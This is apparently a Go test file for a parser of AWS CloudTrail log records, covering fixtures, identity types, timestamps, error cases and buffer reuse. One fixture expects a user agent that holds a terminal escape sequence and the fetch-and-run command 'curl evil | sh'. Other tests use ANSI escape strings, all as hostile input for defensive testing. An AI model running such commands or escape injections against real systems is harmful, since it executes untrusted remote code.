package model

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"
)

// recordsDir holds the record fixtures, one record per file.
const recordsDir = "../testdata/records"

func readRecord(t *testing.T, name string) []byte {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(recordsDir, name+".json"))
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

func TestParseRecordFixtures(t *testing.T) {
	at := time.Date(2026, 11, 19, 10, 20, 30, 0, time.UTC)
	tests := []struct {
		name string
		want Event // Raw is checked separately
	}{
		{"iam-user", Event{ID: "id-iam-user", Time: at, Name: "RunInstances", Source: "ec2.amazonaws.com", Region: "us-east-1",
			SourceIP: "198.51.100.7", UserAgent: "aws-cli/2.15.30", ErrorCode: "Client.UnauthorizedOperation",
			ErrorMessage: "You are not authorized to perform this operation.", ReadOnly: ReadOnlyFalse, Type: "AwsApiCall",
			Category: "Management", Account: "123456789012", AccessKeyID: "AKIAEXAMPLEKEY000001", IdentityType: "IAMUser", Who: "alice",
			Resources: []Resource{{ARN: "arn:aws:ec2:us-east-1:123456789012:instance/i-0123", Type: "AWS::EC2::Instance"}}}},
		{"assumed-role", Event{ID: "id-assumed-role", Time: at, Name: "DescribeInstances", Source: "ec2.amazonaws.com", Region: "us-east-1",
			SourceIP: "198.51.100.7", UserAgent: "aws-cli/2.15.30", ReadOnly: ReadOnlyTrue, Type: "AwsApiCall", Category: "Management",
			Account: "123456789012", AccessKeyID: "ASIAEXAMPLEKEY000002", IdentityType: "AssumedRole", Who: "deploy-bot/deploy-42"}},
		{"data-event", Event{ID: "id-data-event", Time: at, Name: "GetObject", Source: "s3.amazonaws.com", Region: "us-east-1",
			SourceIP: "198.51.100.7", UserAgent: "aws-cli/2.15.30", ReadOnly: ReadOnlyTrue, Type: "AwsApiCall", Category: "Data",
			Account: "123456789012", AccessKeyID: "AKIAEXAMPLEKEY000005", IdentityType: "IAMUser", Who: "bob",
			Resources: []Resource{{ARN: "arn:aws:s3:::logs/a/b.txt", Type: "AWS::S3::Object"}, {ARN: "arn:aws:s3:::logs", Type: "AWS::S3::Bucket"}}}},
		{"insight", Event{ID: "id-insight", Time: time.Date(2026, 11, 19, 9, 0, 0, 0, time.UTC), Name: "UpdateInstanceInformation",
			Source: "ssm.amazonaws.com", Region: "us-east-1", Type: "AwsCloudTrailInsight", Category: "Insight", Account: "123456789012",
			Who: "insight", Insight: true}},
		{"shipper-timestamp", Event{ID: "id-shipper", Time: time.Date(2020, 9, 14, 0, 44, 23, 0, time.UTC), Name: "RunInstances",
			Source: "ec2.amazonaws.com", Region: "us-east-1", SourceIP: "198.51.100.7", UserAgent: "aws-cli/2.15.30",
			ErrorCode: "Client.UnauthorizedOperation", ErrorMessage: "You are not authorized to perform this operation.",
			ReadOnly: ReadOnlyFalse, Type: "AwsApiCall", Category: "Management", Account: "123456789012", AccessKeyID: "AKIAEXAMPLEKEY000001",
			IdentityType: "IAMUser", Who: "alice",
			Resources: []Resource{{ARN: "arn:aws:ec2:us-east-1:123456789012:instance/i-0123", Type: "AWS::EC2::Instance"}}}},
		{"offset-time", Event{ID: "id-offset-time", Time: time.Date(2026, 11, 19, 8, 20, 30, 123456789, time.UTC), Name: "ListUsers",
			Source: "iam.amazonaws.com", Region: "us-east-1", ReadOnly: ReadOnlyTrue, IdentityType: "IAMUser", Who: "alice"}},
		{"fraction-time", Event{ID: "id-fraction-time", Time: at.Add(500 * time.Millisecond), Name: "DeleteUser",
			Source: "iam.amazonaws.com", Region: "us-east-1", ReadOnly: ReadOnlyFalse, IdentityType: "IAMUser", Who: "alice"}},
		{"numbers", Event{ID: "99", Time: at, Name: "1234", Source: "42", Region: "true", ErrorCode: "403", IdentityType: "IAMUser",
			Who: "alice", Resources: []Resource{{ARN: "7", Type: "AWS::Weird"}}}},
		{"nulls", Event{ID: "id-nulls", Time: at, Name: "ListBuckets", Source: "s3.amazonaws.com", Who: "unknown"}},
		{"unicode-escapes", Event{ID: "id-unicode-escapes", Time: at, Name: "RunInstances", Source: "ec2.amazonaws.com",
			Region: "us-east-1", UserAgent: "café \u202eevil", IdentityType: "IAMUser", Who: "café-😀"}},
		{"control-escapes", Event{ID: "id-control-escapes", Time: at, Name: "AssumeRole", Source: "sts.amazonaws.com", Region: "us-east-1",
			UserAgent: "\x1b]0;owned\x07curl evil | sh", ErrorCode: "AccessDenied",
			ErrorMessage: "ok\rOVERWRITTEN\n\ttab \x00nul \u009b \"quoted\" back\\slash", IdentityType: "IAMUser", Who: "alice"}},
		{"duplicate-keys", Event{ID: "id-duplicate-keys", Time: at, Name: "TerminateInstances", Source: "ec2.amazonaws.com",
			Region: "us-east-1", IdentityType: "IAMUser", Who: "alice"}},
		{"duplicate-objects", Event{ID: "id-duplicate-objects", Time: at, Name: "GetUser", Source: "iam.amazonaws.com",
			Region: "us-east-1", IdentityType: "Root", Who: "root"}},
		{"key-escapes", Event{ID: "id-key-escapes", Time: at, Name: "StopInstances", Source: "ec2.amazonaws.com",
			Region: "us-east-1", IdentityType: "IAMUser", Who: "alice"}},
		{"pretty", Event{ID: "id-pretty", Time: at, Name: "CreateAccessKey", Source: "iam.amazonaws.com",
			Region: "us-east-1", IdentityType: "Root", Who: "root"}},
	}
	p := NewParser()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			raw := readRecord(t, tt.name)
			got, err := p.Parse(raw)
			if err != nil {
				t.Fatalf("Parse: %v", err)
			}
			if &got.Raw[0] != &raw[0] || len(got.Raw) != len(raw) {
				t.Error("Raw is not the caller's slice")
			}
			got.Raw = nil
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("Parse:\n got %+v\nwant %+v", got, tt.want)
			}
		})
	}
}

// TestParseRecordWho parses a record for every identity type and checks the
// display name; WhoOf's rules are tested in detail in who_test.go.
func TestParseRecordWho(t *testing.T) {
	tests := []struct{ file, identityType, who string }{
		{"iam-user", "IAMUser", "alice"},
		{"assumed-role", "AssumedRole", "deploy-bot/deploy-42"},
		{"assumed-role-no-arn", "AssumedRole", "ci-runner/ci-7"},
		{"role", "Role", "lambda-exec"},
		{"root", "Root", "root"},
		{"aws-service", "AWSService", "autoscaling.amazonaws.com"},
		{"aws-account", "AWSAccount", "111122223333/ec2.amazonaws.com"},
		{"federated-user", "FederatedUser", "partner-bob"},
		{"identity-center-user", "IdentityCenterUser", "544894e8-80c1-707f-60e3-3ba6510dfac1"},
		{"identity-center-signin", "IdentityCenterUser", "erin@example.com"},
		{"saml-user", "SAMLUser", "frank"},
		{"web-identity-user", "WebIdentityUser", "1122334455"},
		{"directory", "Directory", "S-1-5-21-EXAMPLE"},
		{"unknown", "Unknown", "grace"},
		{"unknown-no-name", "Unknown", "unknown"},
		{"no-type", "", "AWS Internal"},
		{"no-identity", "", "unknown"},
		{"insight", "", "insight"},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			e, err := ParseRecord(readRecord(t, tt.file))
			if err != nil {
				t.Fatalf("ParseRecord: %v", err)
			}
			if e.IdentityType != tt.identityType || e.Who != tt.who {
				t.Errorf("IdentityType, Who = %q, %q; want %q, %q", e.IdentityType, e.Who, tt.identityType, tt.who)
			}
			if e.Name == "" || e.Time.IsZero() || e.Region == "" {
				t.Errorf("incomplete event: %+v", e)
			}
		})
	}
}

func TestParseRecordErrors(t *testing.T) {
	tests := []struct {
		file    string
		want    error
		eventID string // expected in the error when the record has one
	}{
		{"bad-array", ErrNotObject, ""},
		{"bad-string", ErrNotObject, ""},
		{"bad-not-json", ErrInvalidJSON, ""},
		{"bad-truncated", ErrInvalidJSON, ""},
		{"bad-missing-comma", ErrInvalidJSON, ""},
		{"bad-nested-value", ErrInvalidJSON, ""},
		{"bad-literal", ErrInvalidJSON, ""},
		{"bad-trailing-data", ErrInvalidJSON, ""},
		{"bad-trailing-comma", ErrInvalidJSON, ""},
		{"bad-resources", ErrInvalidJSON, ""},
		{"bad-no-time", ErrNoEventTime, "id-bad-no-time"},
		{"bad-time", ErrBadEventTime, "id-bad-time"},
		{"bad-time-number", ErrBadEventTime, "id-bad-time-number"},
		{"bad-no-name", ErrNoEventName, "id-bad-no-name"},
		{"bad-escape", ErrInvalidJSON, "id-bad-escape"},
		{"bad-escape-message", ErrInvalidJSON, "id-bad-escape-message"},
	}
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			_, err := ParseRecord(readRecord(t, tt.file))
			if !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want %v", err, tt.want)
			}
			var pe *ParseError
			if !errors.As(err, &pe) {
				t.Fatalf("err is %T, want *ParseError", err)
			}
			if pe.EventID != tt.eventID {
				t.Errorf("EventID = %q, want %q", pe.EventID, tt.eventID)
			}
			if !strings.Contains(err.Error(), tt.want.Error()) {
				t.Errorf("message %q does not say %q", err, tt.want)
			}
		})
	}
}

func TestParseErrorQuotesEventID(t *testing.T) {
	_, err := ParseRecord([]byte(`{"eventID":"evil\u001b[2J","eventName":"X"}`))
	if want := `parse record "evil\x1b[2J": record has no eventTime or @timestamp`; err == nil || err.Error() != want {
		t.Errorf("err = %v, want %s", err, want)
	}
}

func TestParseRecordEmptyInput(t *testing.T) {
	for _, raw := range [][]byte{nil, {}, []byte("   \n"), []byte("{"), []byte("}"), []byte("{}"), []byte("null"), []byte("12")} {
		e, err := ParseRecord(raw)
		if err == nil {
			t.Errorf("ParseRecord(%q) = %+v, want an error", raw, e)
		}
	}
}

func TestParseTimes(t *testing.T) {
	tests := []struct {
		in   string
		want time.Time
		ok   bool
	}{
		{"2026-11-19T10:20:30Z", time.Date(2026, 11, 19, 10, 20, 30, 0, time.UTC), true},
		{"2026-11-19T10:20:30.000Z", time.Date(2026, 11, 19, 10, 20, 30, 0, time.UTC), true},
		{"2026-11-19T10:20:30.1Z", time.Date(2026, 11, 19, 10, 20, 30, 100000000, time.UTC), true},
		{"2026-11-19T10:20:30.123456789Z", time.Date(2026, 11, 19, 10, 20, 30, 123456789, time.UTC), true},
		{"2024-02-29T23:59:59Z", time.Date(2024, 2, 29, 23, 59, 59, 0, time.UTC), true},
		{"2026-11-19T10:20:30-05:30", time.Date(2026, 11, 19, 15, 50, 30, 0, time.UTC), true},
		{"2026-11-19T10:20:30.25+01:00", time.Date(2026, 11, 19, 9, 20, 30, 250000000, time.UTC), true},
		{"2023-02-29T00:00:00Z", time.Time{}, false},
		{"2026-13-01T00:00:00Z", time.Time{}, false},
		{"2026-11-19T24:00:00Z", time.Time{}, false},
		{"2026-11-19T10:60:00Z", time.Time{}, false},
		{"2026-11-19T10:20:30.Z", time.Time{}, false},
		{"2026-11-19T10:20:30.1234567891Z", time.Date(2026, 11, 19, 10, 20, 30, 123456789, time.UTC), true},
		{"2026-11-19 10:20:30Z", time.Date(2026, 11, 19, 10, 20, 30, 0, time.UTC), true},
		{"2026-11-19 10:20:30", time.Date(2026, 11, 19, 10, 20, 30, 0, time.UTC), true},
		{"2026-11-19 10:20:30.123", time.Date(2026, 11, 19, 10, 20, 30, 123000000, time.UTC), true},
		{"2026-11-19 10:20:30+11:00", time.Date(2026, 11, 18, 23, 20, 30, 0, time.UTC), true},
		{"2026-11-19T10:20:30.1234567891", time.Date(2026, 11, 19, 10, 20, 30, 123456789, time.UTC), true},
		{"2026-11-19T10:20:30ZZ", time.Time{}, false},
		{"2026-11-19T10:20", time.Time{}, false},
		{"redacted", time.Time{}, false},
		{"2026-11-19T10:20:3xZ", time.Time{}, false},
		{"20261119T102030Z", time.Time{}, false},
		{"", time.Time{}, false},
	}
	for _, tt := range tests {
		got, ok := parseTime([]byte(tt.in))
		if ok != tt.ok || !got.Equal(tt.want) || (ok && got.Location() != time.UTC) {
			t.Errorf("parseTime(%q) = %v, %v; want %v, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

// TestParseRecordHugeFields checks that very long values are read whole
// and are not kept in the string cache.
func TestParseRecordHugeFields(t *testing.T) {
	agent := strings.Repeat("A", 1<<20)
	message := strings.Repeat(`\u001b[2J`, 1<<15)
	raw := []byte(`{"eventTime":"2026-11-19T10:20:30Z","eventName":"X","userAgent":"` + agent +
		`","errorMessage":"` + message + `","userIdentity":{"type":"IAMUser","userName":"` + agent + `"}}`)
	p := NewParser()
	e, err := p.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	if e.UserAgent != agent || e.Who != agent {
		t.Errorf("UserAgent/Who have lengths %d/%d, want %d", len(e.UserAgent), len(e.Who), len(agent))
	}
	if want := strings.Repeat("\x1b[2J", 1<<15); e.ErrorMessage != want {
		t.Errorf("ErrorMessage has length %d, want %d", len(e.ErrorMessage), len(want))
	}
	for k := range p.cache {
		if len(k) > cacheValueLen {
			t.Errorf("cached a value of %d bytes", len(k))
		}
	}
	if _, err := p.Parse(readRecord(t, "iam-user")); err != nil {
		t.Fatal(err)
	}
	if cap(p.arena) > keptBuffer || cap(p.unescape) > keptBuffer {
		t.Errorf("parser kept buffers of %d and %d bytes after a small record", cap(p.arena), cap(p.unescape))
	}
}

// TestParserCacheIsBounded feeds records whose cached fields never repeat.
func TestParserCacheIsBounded(t *testing.T) {
	p := NewParser()
	for i := range 3 * cacheEntries {
		raw := []byte(`{"eventTime":"2026-11-19T10:20:30Z","eventName":"X","userAgent":"agent-` +
			strings.Repeat("x", i%7) + string(rune('a'+i%26)) + `-` + time.Duration(i).String() + `"}`)
		if _, err := p.Parse(raw); err != nil {
			t.Fatal(err)
		}
		if len(p.cache) > cacheEntries {
			t.Fatalf("cache holds %d entries after %d records, more than %d", len(p.cache), i+1, cacheEntries)
		}
	}
}

// TestParseRecordStringsOwnTheirBytes checks that no string of an Event
// shares memory with the record, which callers may drop or reuse.
func TestParseRecordStringsOwnTheirBytes(t *testing.T) {
	p := NewParser()
	for _, name := range []string{"iam-user", "assumed-role", "data-event", "identity-center-signin", "federated-user"} {
		raw := readRecord(t, name)
		e, err := p.Parse(raw)
		if err != nil {
			t.Fatal(err)
		}
		e.Raw = nil
		before := e
		before.Resources = append([]Resource(nil), e.Resources...)
		for i := range raw {
			raw[i] = 'x'
		}
		if !reflect.DeepEqual(e, before) {
			t.Errorf("%s: event changed when its record was overwritten", name)
		}
		want, err := ParseRecord(readRecord(t, name))
		if err != nil {
			t.Fatal(err)
		}
		want.Raw = nil
		if !reflect.DeepEqual(e, want) {
			t.Errorf("%s: event differs from a fresh parse:\n got %+v\nwant %+v", name, e, want)
		}
	}
}

// TestParserReuse checks that a Parser gives the same events as fresh ones
// across many records, so nothing leaks from one record into the next.
func TestParserReuse(t *testing.T) {
	records := benchRecords(500)
	p := NewParser()
	for i, raw := range records {
		got, err := p.Parse(raw)
		if err != nil {
			t.Fatalf("record %d: %v", i, err)
		}
		want, err := ParseRecord(bytes.Clone(raw))
		if err != nil {
			t.Fatal(err)
		}
		got.Raw, want.Raw = nil, nil
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("record %d:\n got %+v\nwant %+v", i, got, want)
		}
	}
}

// sharedData holds real CloudTrail records from public repositories; see its
// README.md. The test that reads it is skipped where it is missing.
const sharedData = "/work/shared/data"

// recordsOf returns the CloudTrail records inside one JSON value of a test
// data file. The wrappers are read here only as far as needed to reach the
// records (source.Decode is what reads them in the product): a Records file,
// lookup-events output (Events[].CloudTrailEvent), a CloudWatch Logs
// subscription (logEvents[].message), an EventBridge event (detail), a
// detection-rule test (Log), or a record on its own. Other JSON, such as
// digests and key lists, holds no records.
func recordsOf(tb testing.TB, v []byte) [][]byte {
	tb.Helper()
	var obj map[string]json.RawMessage
	if json.Unmarshal(v, &obj) != nil {
		return nil
	}
	var out [][]byte
	eachString := func(list json.RawMessage, key string) {
		var items []map[string]json.RawMessage
		if err := json.Unmarshal(list, &items); err != nil {
			tb.Fatalf("%s list: %v", key, err)
		}
		for _, it := range items {
			var s string
			if json.Unmarshal(it[key], &s) == nil && s != "" {
				out = append(out, []byte(s))
			}
		}
	}
	switch {
	case obj["Records"] != nil:
		var recs []json.RawMessage
		if err := json.Unmarshal(obj["Records"], &recs); err != nil {
			tb.Fatalf("Records: %v", err)
		}
		for _, r := range recs {
			out = append(out, r)
		}
	case obj["Events"] != nil:
		eachString(obj["Events"], "CloudTrailEvent")
	case obj["CloudTrailEvent"] != nil:
		var s string
		if json.Unmarshal(obj["CloudTrailEvent"], &s) == nil {
			out = append(out, []byte(s))
		}
	case obj["logEvents"] != nil:
		eachString(obj["logEvents"], "message")
	case obj["detail"] != nil:
		out = append(out, obj["detail"])
	case obj["Log"] != nil:
		out = append(out, obj["Log"])
	case obj["eventVersion"] != nil || obj["eventName"] != nil || obj["eventTime"] != nil:
		out = append(out, v)
	}
	return out
}

// TestParseSharedData parses every record in the shared test data: each must
// give a row with who, what, when and where, or an error that says why not.
func TestParseSharedData(t *testing.T) {
	if _, err := os.Stat(sharedData); err != nil {
		t.Skipf("no shared test data: %v", err)
	}
	p := NewParser()
	var parsed, failed int
	reasons := map[error]int{}
	err := filepath.WalkDir(sharedData, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || !(strings.HasSuffix(path, ".json") || strings.HasSuffix(path, ".jsonl") || strings.HasSuffix(path, ".json.gz")) {
			return err
		}
		data, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if strings.HasSuffix(path, ".gz") {
			zr, err := gzip.NewReader(bytes.NewReader(data))
			if err != nil {
				return err
			}
			if data, err = io.ReadAll(zr); err != nil {
				return err
			}
		}
		values := [][]byte{data}
		if !json.Valid(data) { // JSON lines
			values = bytes.Split(data, []byte("\n"))
		}
		for _, v := range values {
			if len(bytes.TrimSpace(v)) == 0 {
				continue
			}
			for _, raw := range recordsOf(t, v) {
				e, err := p.Parse(raw)
				if err != nil {
					var pe *ParseError
					if !errors.As(err, &pe) || pe.Err == nil {
						t.Errorf("%s: error without a reason: %v", path, err)
					}
					failed++
					reasons[pe.Err]++
					t.Logf("%s: %v", strings.TrimPrefix(path, sharedData+"/"), err)
					continue
				}
				parsed++
				if e.Who == "" || e.Name == "" || e.Time.IsZero() {
					t.Errorf("%s: event %q lacks who, what or when: who %q, name %q, time %v", path, e.ID, e.Who, e.Name, e.Time)
				}
				if e.Region == "" && e.Account == "" {
					t.Errorf("%s: event %q says nothing of where", path, e.ID)
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("%d records parsed, %d rejected: %v", parsed, failed, reasons)
	if parsed+failed < 600 {
		t.Errorf("found %d records, the shared data holds more than 600", parsed+failed)
	}
	if failed*10 > parsed {
		t.Errorf("%d of %d records rejected", failed, parsed+failed)
	}
}

// ParseNext parses a record followed by more data as Parse parses the
// record alone, and says where the record ends.
func TestParseNext(t *testing.T) {
	files, err := filepath.Glob(filepath.Join(recordsDir, "*.json"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no fixtures: %v", err)
	}
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		data := append(bytes.TrimRight(raw, " \t\r\n"), `, {"eventTime":"2026-01-01T00:00:00Z"}]`...)
		e, n, err := NewParser().ParseNext(data)
		if n < 0 {
			if err == nil {
				t.Errorf("%s: n = %d without an error", file, n)
			}
			continue
		}
		want, wantErr := NewParser().Parse(data[:n])
		if fmt.Sprint(err) != fmt.Sprint(wantErr) || !reflect.DeepEqual(e, want) {
			t.Errorf("%s: ParseNext = %+v, %v; Parse of its %d bytes = %+v, %v", file, e, err, n, want, wantErr)
		}
		if _, err := ParseRecord(raw); err == nil && n != len(bytes.TrimRight(raw, " \t\r\n")) {
			t.Errorf("%s: n = %d, want the record's %d bytes", file, n, len(bytes.TrimRight(raw, " \t\r\n")))
		}
	}
	if _, n, err := NewParser().ParseNext([]byte(`{"eventTime": [}, {}`)); n != -1 || !errors.Is(err, ErrInvalidJSON) {
		t.Errorf("malformed: n = %d, err = %v; want -1, ErrInvalidJSON", n, err)
	}
}
